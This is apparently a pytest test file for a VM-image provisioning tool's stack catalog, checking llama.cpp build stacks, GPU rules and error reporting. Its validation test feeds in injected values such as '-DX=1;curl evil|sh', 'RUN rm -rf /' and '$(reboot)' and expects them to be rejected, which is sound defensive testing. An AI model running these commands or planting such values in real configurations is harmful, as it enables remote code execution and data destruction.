"""The stack catalog: typed values, rules decided before anything runs, and bad input
rejected with the file, key path and value named."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from provision.cli import main
from provision.core import catalog, errors
from tests.helpers import catalog_file_with


def test_catalog_has_the_four_product_stacks():
    stacks = catalog.load().stacks
    assert {"llama", "llama-apir", "llama-linux", "cpu"} <= set(stacks)
    llama = stacks["llama"]
    assert llama.gpu and llama.gpu_vram_mib == 4096 and llama.device == "Vulkan0" and llama.mesa == "copr"
    assert llama.build is not None
    assert {"-DGGML_VULKAN=ON", "-DBUILD_SHARED_LIBS=OFF"} <= set(llama.build.cmake_flags)
    assert set(llama.build.targets) == {"llama-cli", "llama-bench", "llama-server"}
    apir = stacks["llama-apir"]
    assert apir.build is not None and "-DGGML_VIRTGPU=ON" in apir.build.cmake_flags
    assert "libdrm-devel" in apir.build.packages and apir.guest_env["GGML_DISABLE_VULKAN"] == "1"
    linux = stacks["llama-linux"]
    assert {
        "mesa-vulkan-drivers",
        "llama.cpp-tools",
        "libggml0-backend-vulkan",
        "vulkan-tools",
        "kmod",
    } <= set(linux.packages)
    # the kernel and the tools that make its initrd live in a stage of their own
    assert linux.boot is not None and {"linux-image-amd64", "initramfs-tools"} <= set(linux.boot.packages)
    assert "linux-image-amd64" not in linux.packages and "virtio_gpu" in linux.boot.modules
    assert not stacks["cpu"].gpu


def test_gpu_on_a_stack_without_gpu_is_e007():
    cpu = catalog.load().get("cpu")
    with pytest.raises(errors.GpuNotSupported) as exc:
        catalog.check_gpu(cpu, gpu_requested=True)
    assert exc.value.code == "E007" and "cpu" in exc.value.message
    catalog.check_gpu(cpu, gpu_requested=False)
    catalog.check_gpu(catalog.load().get("llama"), gpu_requested=True)


def test_unknown_stack_lists_the_known_ones(capsys):
    status = main(["image", "render", "nope"])
    err = capsys.readouterr().err
    assert status == errors.UnknownStack.exit_status
    assert "E001" in err and "'nope'" in err
    for name in ("llama", "llama-apir", "llama-linux", "cpu"):
        assert name in err



def test_malformed_yaml_names_file_and_line(tmp_path, capsys):
    path = tmp_path / "stacks.yaml"
    path.write_text("stacks:\n  llama: [unclosed\n")
    status = main(["image", "render", "llama", "--catalog", str(path)])
    err = capsys.readouterr().err
    assert status == errors.CatalogSyntaxError.exit_status
    assert f"{path}:" in err and "E002" in err


def test_unknown_key_names_its_path(tmp_path):
    path = catalog_file_with(tmp_path, lambda d: d["stacks"]["llama"].__setitem__("gpu_vram", 1))
    with pytest.raises(errors.InvalidValue) as exc:
        catalog.load(path)
    assert str(path) in exc.value.message and "stacks.llama.gpu_vram" in exc.value.message


@pytest.mark.parametrize(
    ("mutate", "key", "value"),
    [
        (
            lambda d: d["stacks"]["llama"]["build"]["cmake_flags"].append("-DX=1;curl evil|sh"),
            "stacks.llama.build.cmake_flags[2]",
            "-DX=1;curl evil|sh",
        ),
        (
            lambda d: d["stacks"]["cpu"].__setitem__("description", "line one\nRUN rm -rf /"),
            "stacks.cpu.description",
            "line one",
        ),
        (
            lambda d: d["stacks"]["llama-linux"]["guest_env"].__setitem__("VK_DRIVER_FILES", "$(reboot)"),
            "stacks.llama-linux.guest_env.VK_DRIVER_FILES",
            "$(reboot)",
        ),
        (
            lambda d: d["stacks"]["cpu"].__setitem__("verify", ["true && reboot"]),
            "stacks.cpu.verify[0]",
            "true && reboot",
        ),
        (lambda d: d["stacks"]["cpu"]["packages"].append("not-pinned-pkg"), "stacks.cpu.packages[3]", "not-pinned-pkg"),
        (
            lambda d: d["stacks"]["cpu"].__setitem__("boot", {"packages": ["kmod"], "modules": ["ext4;x"]}),
            "stacks.cpu.boot.modules[0]",
            "ext4;x",
        ),
        (
            lambda d: d["stacks"]["cpu"].__setitem__("boot", {"packages": ["linux-image-rt"], "modules": ["ext4"]}),
            "stacks.cpu.boot.packages[0]",
            "linux-image-rt",
        ),
        (
            lambda d: d["stacks"]["llama-apir-linux"]["build"]["packages"].append("gcc-13"),
            "stacks.llama-apir-linux.build.packages[7]",
            "gcc-13",
        ),
    ],
)
def test_unsafe_or_unpinned_values_are_rejected(tmp_path, mutate, key, value):
    path = catalog_file_with(tmp_path, mutate)
    with pytest.raises(errors.InvalidValue) as exc:
        catalog.load(path)
    assert str(path) in exc.value.message and key in exc.value.message and value in exc.value.message
    assert exc.value.code == "E003"


def test_route_gpu_consistency_is_checked(tmp_path):
    path = catalog_file_with(tmp_path, lambda d: d["stacks"]["cpu"].__setitem__("gpu", True))
    with pytest.raises(errors.InvalidValue) as exc:
        catalog.load(path)
    assert "stacks.cpu.g" in exc.value.message


def test_stacks_command_json_lists_every_stack(capsys):
    assert main(["stacks", "--json"]) == 0
    import json

    shown = json.loads(capsys.readouterr().out)
    assert (shown["command"], shown["status"], shown["error"]) == ("stacks", "ok", None)
    data = shown["data"]
    assert [s["name"] for s in data] == list(catalog.load().stacks)
    assert all({"route", "gpu", "hosts"} <= set(s) for s in data)


def test_every_module_the_guest_init_loads_is_kept_in_the_vm_images():
    # The images keep only the kernel modules their boot section names: one that init modprobes
    # but the image dropped fails only in a booted guest (serve's NIC did, once).
    init = (Path(catalog.__file__).resolve().parents[1] / "data" / "guest" / "init").read_text()
    loaded = set(re.findall(r"modprobe\s+([a-z0-9_]+)", init))
    assert {"virtio_gpu", "virtio_net"} <= loaded
    for stack in catalog.load().stacks.values():
        if stack.boot is not None:
            assert loaded <= set(stack.boot.modules), (stack.name, sorted(loaded - set(stack.boot.modules)))


def test_the_tool_that_brings_up_serves_nic_is_in_every_vm_image():
    # The kernel and initramfs-tools live in a build stage of their own, so klibc's ipconfig
    # must come from the runtime packages; without it a served guest has no network.
    init = (Path(catalog.__file__).resolve().parents[1] / "data" / "guest" / "init").read_text()
    assert "/usr/lib/klibc/bin/ipconfig" in init
    for stack in catalog.load().stacks.values():
        if stack.boot is not None:
            assert {"klibc-utils", "iproute2"} & set(stack.packages), stack.name
